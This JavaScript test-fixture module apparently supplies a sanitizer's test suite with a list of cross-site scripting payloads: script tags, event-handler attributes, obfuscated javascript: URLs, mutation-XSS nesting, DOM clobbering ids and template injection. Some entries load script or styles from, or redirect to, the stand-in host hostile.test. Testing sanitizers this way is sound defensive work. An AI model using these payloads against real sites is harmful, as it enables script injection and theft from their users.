/**
 * @file Hostile texts of our own, one for each way in that we know of: what runs where ../shared is missing. They are no match for the
 * collections there, only the same in kind.
 */

/** @typedef {{ id: string, context: 'html' | 'markdown' | 'url', payload: string }} Vector */

const html = [
  '<script>alert("plain")</script> then words',
  '<SCRIPT SRC=http://hostile.test/own.js></SCRIPT>kept words',
  '<img src=x onerror=alert(1)> beside a picture',
  '<svg/onload=alert(1)>drawing</svg> outside',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg> moving',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math> formula',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe> frame',
  '<iframe src="javascript:parent.alert(1)"></iframe> frame again',
  '<object data="data:text/html,<script>alert(1)</script>"></object> thing',
  '<form action="javascript:alert(1)" id="body"><input name="cookie" autofocus onfocus=alert(1)><button>press here</button></form>',
  '<a href="jAvAsCrIpT&colon;alert(1)" id="location" name="documentElement">follow me</a>',
  '<a href="\u0001java\tscript:alert(1)" target="_top" style="position:fixed">over all of it</a>',
  '<details open ontoggle=alert(1)><summary>summary words</summary>hidden words</details>',
  '<base href="http://hostile.test/"><link rel="stylesheet" href="own.css"><meta http-equiv="refresh" content="0;url=http://hostile.test/">after',
  '<style>@import "http://hostile.test/own.css"; *{background:url(http://hostile.test/own.png)}</style> styled',
  '<p title="</p><img src=x onerror=alert(1)>">a broken paragraph</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript> no script',
  '<template><img src=x onerror=alert(1)></template> shown',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio> played',
  "\"><b onmouseover=alert(1)>'bold words'</b>",
  '<!--><img src=x onerror=alert(1)>--> comment',
  '<div id="carrel-article" class="carrel-topic" slot="carrel-topic">in disguise</div>',
  '{{constructor.constructor("alert(1)")()}} <%= alert(1) %> braces',
];
const markdown = [
  '[follow](javascript:alert(1)) ![picture](javascript:alert(1))',
  '[follow][ref]\n\n[ref]: <javascript:alert(1)> "title"',
  '![" onerror="alert(1)](x "\\" onerror=\\"alert(1)")',
  '```"><script>alert(1)</script>\ncode words\n```',
  '## Heading {#cookie}\n\n<b id="createElement">bold</b>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> note',
];
const url = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  '&#x6a;avascript&colon;alert(1)',
  ' \u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'blob:http://hostile.test/1',
  'view-source:http://hostile.test/',
  '//hostile.test/own.js',
  '\\\\hostile.test\\own.js',
  'https:hostile.test/own.js',
  '../../own.js',
  '..\\..\\own.js',
  'http://hostile.test:80@127.0.0.1/own.js',
  '#" onclick="alert(1)',
  'mailto:own@hostile.test',
  'tel:0',
];

/** @param {Vector['context']} context @param {string[]} payloads @returns {Vector[]} */
const numbered = (context, payloads) =>
  payloads.map((payload, i) => ({ id: `own/${context}/${i + 1}`, context, payload }));

export const OWN = [...numbered('html', html), ...numbered('markdown', markdown), ...numbered('url', url)];
